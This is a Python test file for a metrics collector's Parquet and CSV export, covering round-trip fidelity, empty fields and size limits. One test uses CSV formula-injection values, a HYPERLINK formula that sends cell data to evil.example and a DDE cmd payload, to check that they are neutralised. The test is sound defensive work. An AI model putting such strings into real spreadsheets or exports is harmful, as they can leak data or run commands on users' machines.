"""Exports are plain files: the values that went in, in the units of the model."""

import csv
from dataclasses import replace
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from collector.arrow import SAMPLE_SCHEMA, to_table
from collector.sources.replay.file import read_raw
from collector.store.errors import ExportTooLarge
from collector.store.export import ExportBounds
from tests.collector.store.store_parts import T0, TICK_MS, at_path, held, sample, tick
from tests.stores import open_store


def test_parquet_export_brings_back_what_was_stored(tmp_path: Path) -> None:
    samples = [
        sample(n % 3, T0 + (1 + n // 3) * TICK_MS, None if n % 7 == 0 else n / 40, flags=("a", "b"), xid=79)
        for n in range(36)
    ]
    with open_store(at_path(tmp_path)) as store:
        for n in range(0, 36, 3):
            store.write_tick(tick(samples[n].at_ms, samples[n : n + 3], [held(0, "a", 0.5)]))
        done = store.export(tmp_path / "out", "parquet", T0, T0 + 12 * TICK_MS)
    assert [file.name for file in done.files] == ["samples.parquet", "allocations.parquet", "gpus.parquet"]
    assert done.rows == (36, 1, 3)
    table = pq.read_table(done.files[0])
    assert table.schema.names == ["uuid", "node", *SAMPLE_SCHEMA.names[1:]]
    back = table.select(SAMPLE_SCHEMA.names).cast(SAMPLE_SCHEMA)
    assert back.equals(_to_e4(to_table(samples)))
    (claim,) = pq.read_table(done.files[1]).to_pylist()
    assert claim["job"] == "slurm:a" and claim["share"] == 0.5
    assert (claim["from_ms"], claim["to_ms"]) == (T0, None)


def test_csv_export_says_the_same_with_empty_fields_for_not_measured(tmp_path: Path) -> None:
    with open_store(at_path(tmp_path)) as store:
        store.write_tick(tick(T0 + TICK_MS, [sample(0, T0 + TICK_MS, 0.25, temperature_c=0)]))
        done = store.export(tmp_path / "out", "csv", T0, T0 + TICK_MS)
    with done.files[0].open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert float(row["utilization_ratio"]) == 0.25
    assert row["temperature_c"] == "0" and row["encoder_ratio"] == ""
    assert row["node"] == "n0" and int(row["at_ms"]) == T0 + TICK_MS


def test_no_name_that_somebody_chose_is_a_formula_in_a_csv_file(tmp_path: Path) -> None:
    command = '=HYPERLINK("http://evil.example/?"&A1)'
    claim = held(0, "a")
    claim = replace(claim, holder=replace(claim.holder, name=command, command="-2+cmd|' /C calc'!A0"))
    with open_store(at_path(tmp_path)) as store:
        store.write_tick(tick(T0 + TICK_MS, [sample(0, T0 + TICK_MS, 0.25)], [claim]))
        done = store.export(tmp_path / "out", "csv", T0, T0 + TICK_MS)
        whole = store.export(tmp_path / "out", "parquet", T0, T0 + TICK_MS)
    with done.files[1].open(newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["name"] == f"'{command}" and row["command"] == "'-2+cmd|' /C calc'!A0"
    assert row["user"] == "user-a"
    (same,) = read_raw(done.files[1]).table.to_pylist()
    assert same["name"] == command, "what is replayed is what was exported"
    assert pq.read_table(whole.files[1]).to_pylist()[0]["name"] == command, "nobody runs a Parquet cell"


@pytest.mark.parametrize(
    ("most_bytes", "least_free_bytes", "why"),
    [
        (500, 0, r"api.export_gib.* Parquet instead of CSV"),
        (1 << 40, 1 << 60, "leave the service's disk less"),
    ],
)
def test_an_export_that_is_too_large_is_refused_and_leaves_nothing(
    tmp_path: Path, most_bytes: int, least_free_bytes: int, why: str
) -> None:
    bounds = ExportBounds(most_bytes=most_bytes, least_free_bytes=least_free_bytes)
    with open_store(at_path(tmp_path)) as store:
        for n in range(20):
            at = T0 + n * TICK_MS
            store.write_tick(tick(at, [sample(0, at)]))
        with pytest.raises(ExportTooLarge, match=why):
            store.export(tmp_path / "out", "csv", T0, T0 + 20 * TICK_MS, bounds)
        assert list((tmp_path / "out").iterdir()) == []
        few = ExportBounds(most_bytes=1 << 20, least_free_bytes=0)
        assert store.export(tmp_path / "out", "csv", T0, T0 + 20 * TICK_MS, few).rows[0] > 0


def _to_e4(table: pa.Table) -> pa.Table:
    """Ratios as they are after a stay in the store: rounded to a ten-thousandth."""
    columns = [
        pa.array(
            [None if v is None else round(v * 10_000) / 10_000 for v in table[name].to_pylist()],
            type=pa.float32(),
        )
        if name.endswith("_ratio")
        else table[name]
        for name in table.schema.names
    ]
    return pa.Table.from_arrays(columns, schema=SAMPLE_SCHEMA)
